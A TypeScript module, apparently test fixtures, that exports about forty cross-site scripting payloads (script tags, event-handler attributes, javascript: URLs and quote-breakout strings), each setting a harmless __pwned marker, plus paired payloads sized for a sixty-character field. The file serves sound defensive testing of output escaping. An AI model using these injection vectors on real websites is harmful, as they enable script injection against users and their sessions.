/** Each runs somewhere in a page that writes what it is given as it is: `written.spec.ts` shows that first. */
export const longPayloads: readonly string[] = [
  '<script>__pwned=1</script>',
  '<img src onerror=__pwned=1>',
  '<img/src/onerror=__pwned=1>',
  '<video src onerror=__pwned=1>',
  '<audio src onerror=__pwned=1>',
  '<details open ontoggle=__pwned=1>',
  '<iframe onload=__pwned=1>',
  '<body onload=__pwned=1>',
  '<input onfocus=__pwned=1 autofocus>',
  '<style onload=__pwned=1></style>',
  '<IMG SRC ONERROR=__pwned=1>',
  '<svg><script>__pwned=1</script>',
  '"><svg onload=__pwned=1>',
  "'><svg onload=__pwned=1>",
  '</script><svg onload=__pwned=1>',
  '</title><svg onload=__pwned=1>',
  '</textarea><svg onload=__pwned=1>',
  '--><svg onload=__pwned=1>',
  '" onfocus=__pwned=1 autofocus x="',
  'java&Tab;script:__pwned=1',
]

const short: readonly string[] = [
  '<svg onload=__pwned=1>',
  '<svg/onload=__pwned=1>',
  '<SVG ONLOAD=__pwned=1>',
  'javascript:__pwned=1',
  'JAVASCRIPT:__pwned=1',
  'javascript:%5f_pwned=1',
  "';__pwned=1;'",
  '";__pwned=1;"',
  "'-(__pwned=1)-'",
  '"-(__pwned=1)-"',
  "'+(__pwned=1)+'",
  '"+(__pwned=1)+"',
  "'||(__pwned=1)||'",
  '"||(__pwned=1)||"',
  "'/(__pwned=1)/'",
  '"/(__pwned=1)/"',
  "'%(__pwned=1)%'",
  '*/__pwned=1/*',
  '`-(__pwned=1)-`',
  '`+(__pwned=1)+`',
]

export const payloads: readonly string[] = [...longPayloads, ...short]

/** Two at a time: both stand in a field of sixty characters. */
export const pairs: readonly (readonly [string, string])[] = longPayloads.map((text, place) => [
  text,
  short[place] ?? text,
])
